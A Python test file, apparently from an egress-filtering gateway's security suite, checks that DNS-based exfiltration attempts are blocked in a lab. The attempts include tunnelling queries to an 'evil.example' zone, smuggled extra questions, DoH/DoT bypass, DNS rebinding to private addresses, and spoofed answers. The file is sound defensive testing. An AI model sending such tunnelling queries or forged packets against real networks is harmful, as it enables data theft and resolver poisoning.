"""Rows 26 to 34: DNS as a way out.  Scored by what the authoritative server and the attacker were asked."""

from __future__ import annotations

import secrets
import struct
import time

import dns.message
import dns.opcode
import dns.rcode
import dns.rrset
import pytest

from tests.security.conftest import standard
from tests.security.lab.lab import UPLINK, Lab, Listener
from tests.security.lab.machine import Machine
from tests.security.lab.world import ALLOWED, ATTACKER, CDN, DNS
from tests.security.test_packets import ipv4
from tests.unit.egress.hellos import hello

SERVERS = [DNS, ATTACKER, "8.8.8.8", "1.1.1.1"]


def unasked(lab: Lab) -> list[str]:
    """Marks where the log of the outside's nameserver stands."""
    return lab.world.queries[:]


@pytest.mark.parametrize("kind", ["A", "TXT", "MX", "NULL", "CNAME"])
def test_row_26_a_tunnel_to_the_attackers_zone(lab: Lab, attacker: Machine, kind: str) -> None:
    name = f"{secrets.token_hex(30)}.{secrets.token_hex(30)}.evil.example"
    seq, asked = lab.seq(), unasked(lab)
    with lab.nothing_leaves():
        assert attacker.lookup(name, kind).rcode() == dns.rcode.REFUSED
    assert lab.world.queries == asked
    event = lab.blocked(seq, attacker, "not_allowed", event="dns")
    assert (event.host, event.host_source, event.port) == (name, "dns", 53)


def test_row_27_a_tunnel_under_an_allowed_wildcard(lab: Lab, attacker: Machine) -> None:
    seq, asked = lab.seq(), unasked(lab)
    with lab.nothing_leaves():
        codes = [attacker.lookup(f"{secrets.token_hex(20)}.wild.example").rcode() for _ in range(60)]
    assert codes[:20] == [dns.rcode.NOERROR] * 20
    assert codes[-20:] == [dns.rcode.REFUSED] * 20
    assert lab.world.queries == asked  # an answer is local; a name is looked up only for a hello that passed
    lab.blocked(seq, attacker, "name_budget", event="dns")
    # hellos have the same budget
    assert attacker.refused(CDN, hello(secrets.token_hex(20).encode() + b".wild.example"))
    assert lab.world.queries == asked


def test_row_28_warn_looks_names_up_and_enforce_does_not(lab: Lab, neighbour: Machine) -> None:
    name = f"{secrets.token_hex(8)}.evil.example"
    asked = unasked(lab)
    assert neighbour.refused(ALLOWED, hello(name.encode()))
    assert lab.world.queries == asked
    lab.apply(neighbour, standard(mode="warn"), generation=2)
    try:
        seq = lab.seq()
        assert len(neighbour.lookup(name).answer) == 1
        event = lab.wait_event(seq, lambda event: event.event == "dns" and event.host == name)
        assert (event.verdict, event.would_block) == ("warn", True)
        assert lab.world.queries == asked  # the answer is still ours
        neighbour.refused(ALLOWED, hello(name.encode()))
        assert name in lab.world.queries  # documented: warn observes, and a name is data
    finally:
        lab.apply(neighbour, standard(), generation=3)


@pytest.mark.parametrize("tcp", [False, True])
def test_row_29_odd_questions(lab: Lab, attacker: Machine, tcp: bool) -> None:
    query = dns.message.make_query("allowed.example", "A").to_wire()
    evil = dns.message.make_query("secret.evil.example", "A").to_wire()
    asked = unasked(lab)

    def ask(wire: bytes) -> dns.message.Message:
        return dns.message.from_wire(attacker.dns(wire, tcp=tcp))

    with lab.nothing_leaves():
        seq = lab.seq()
        two = query[:4] + b"\0\2" + query[6:] + evil[12:]
        assert ask(two).rcode() == dns.rcode.FORMERR
        lab.blocked(seq, attacker, "dns_questions", event="dns")
        for opcode in (dns.opcode.UPDATE, dns.opcode.NOTIFY, dns.opcode.STATUS):
            assert ask(query[:2] + bytes([opcode << 3]) + query[3:]).rcode() == dns.rcode.NOTIMP
        assert ask(query + b"secret").rcode() == dns.rcode.FORMERR
        assert ask(evil).rcode() == dns.rcode.REFUSED
        for kind in ("AAAA", "HTTPS", "SVCB", "TXT", "MX", "SRV", "ANY", "CNAME", "NS", "SOA"):
            reply = ask(dns.message.make_query("allowed.example", kind).to_wire())
            assert (reply.rcode(), reply.answer) == (dns.rcode.NOERROR, [])
        assert ask(dns.message.make_query("allowed.example", "A", "CH").to_wire()).rcode() == dns.rcode.REFUSED
    assert lab.world.queries == asked


def test_row_29_pipelined_over_tcp(lab: Lab, attacker: Machine) -> None:
    queries = [dns.message.make_query(name, "A") for name in ("allowed.example", "evil.example", "allowed.example")]
    wires = [query.to_wire() for query in queries]
    with lab.nothing_leaves(), attacker.tcp(ATTACKER, 53) as sock:
        sock.sendall(b"".join(len(wire).to_bytes(2, "big") + wire for wire in wires))
        data = b""
        codes = []
        while len(codes) < 3:
            data += sock.recv(4096)
            while len(data) >= 2 and len(data) >= 2 + int.from_bytes(data[:2], "big"):
                size = int.from_bytes(data[:2], "big")
                codes.append(dns.message.from_wire(data[2 : 2 + size]).rcode())
                data = data[2 + size :]
    assert codes == [dns.rcode.NOERROR, dns.rcode.REFUSED, dns.rcode.NOERROR]


def test_row_30_dns_over_tls_and_https(lab: Lab, attacker: Machine) -> None:
    seq = lab.seq()
    with lab.nothing_leaves():
        assert attacker.refused(ATTACKER, hello(b"dns.google"), 853)
        assert attacker.refused("1.1.1.1", hello(b"cloudflare-dns.com"))
        assert attacker.refused("1.1.1.1", hello(b"1.1.1.1"))
    lab.blocked(seq, attacker, "not_allowed", host="cloudflare-dns.com")
    lab.blocked(seq, attacker, "other", event="drop", port=853)


@pytest.mark.parametrize("server", SERVERS)
@pytest.mark.parametrize("tcp", [False, True])
def test_row_31_whichever_resolver_is_asked_ours_answers(lab: Lab, attacker: Machine, server: str, tcp: bool) -> None:
    with lab.nothing_leaves():
        reply = dns.message.from_wire(attacker.dns(dns.message.make_query("allowed.example", "A"), server, tcp=tcp))
    (address,) = [rdata.to_text() for rdata in reply.answer[0]]
    assert address.startswith(("198.18.", "198.19."))


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("to-loopback.example", "floor_loopback"),
        ("to-metadata.example", "floor_metadata"),
        ("to-private.example", "floor_private"),
        ("to-shared.example", "floor_private"),
        ("to-host.example", "floor_own_address"),
        ("to-mixed.example", "floor_loopback"),
        ("to-mapped.example", "floor_loopback"),
        ("to-nat64.example", "floor_metadata"),
        ("to-link.example", "floor_own_address"),
    ],
)
@pytest.mark.parametrize("mode", ["enforce", "warn"])
def test_row_32_an_allowed_name_that_resolves_to_the_floor(
    lab: Lab, attacker: Machine, name: str, why: str, mode: str
) -> None:
    lab.apply(attacker, standard(mode=mode), generation=2)
    traps = [Listener(lab.settings.uplink_netns, address, 443) for address in ("127.0.0.1", "203.0.113.1")]
    try:
        seq = lab.seq()
        with lab.nothing_leaves():
            assert attacker.refused(attacker.address_of(name), hello(name.encode()))
        event = lab.blocked(seq, attacker, why, host=name)
        assert event.rule.startswith("test#")
        time.sleep(0.02)
        assert [trap.got for trap in traps] == [[], []]
    finally:
        for trap in traps:
            trap.close()
        lab.apply(attacker, standard(), generation=3)


def test_row_33_forged_answers_do_not_reach_our_resolver(lab: Lab, attacker: Machine, neighbour: Machine) -> None:
    lab.kill_gateway()
    lab.start_gateway()  # it knows no name yet
    forged = dns.message.make_response(dns.message.make_query("allowed.example", "A"))
    forged.answer.append(dns.rrset.from_text("allowed.example.", 300, "IN", "A", ATTACKER))
    wire = forged.to_wire()
    seq = lab.seq()
    with lab.nothing_leaves():
        for port in range(32_768, 33_268):
            attacker.frame(datagram(DNS, 53, UPLINK, port, wire))
            attacker.frame(datagram(attacker.ip, 53, UPLINK, port, wire))
        neighbour.send(ALLOWED, hello(b"allowed.example"))
    event = lab.wait_event(seq, lambda event: event.event == "open" and event.host == "allowed.example")
    assert event.resolved == ALLOWED


def datagram(source: str, source_port: int, target: str, port: int, data: bytes) -> bytes:
    return ipv4(source, target, 17, struct.pack("!HHHH", source_port, port, 8 + len(data), 0) + data)


def test_row_34_a_cname_gives_its_target_no_rule(lab: Lab, attacker: Machine) -> None:
    assert len(attacker.lookup("to-evil-cname.example").answer) == 1
    seq = lab.seq()
    with lab.nothing_leaves():
        assert attacker.lookup("evil.example").rcode() == dns.rcode.REFUSED
        assert attacker.refused(ATTACKER, hello(b"evil.example"))
    lab.blocked(seq, attacker, "not_allowed", host="evil.example", event="open")


def test_an_allowed_name_that_nobody_answers_for_fails_closed(lab: Lab, attacker: Machine) -> None:
    lab.world.dns_answers = False
    try:
        seq = lab.seq()
        with lab.nothing_leaves(), attacker.tcp(ATTACKER) as sock:
            sock.settimeout(15)
            sock.sendall(hello(b"to-private.example"))
            with pytest.raises(ConnectionError):
                sock.recv(10)
        event = lab.wait_event(seq, lambda event: event.event == "close", 10)
        assert event.close_reason == "dns_failed"
    finally:
        lab.world.dns_answers = True
    seq = lab.seq()
    assert attacker.refused(ATTACKER, hello(b"to-private.example"))
    lab.blocked(seq, attacker, "floor_private")  # and is looked up anew by the next connection
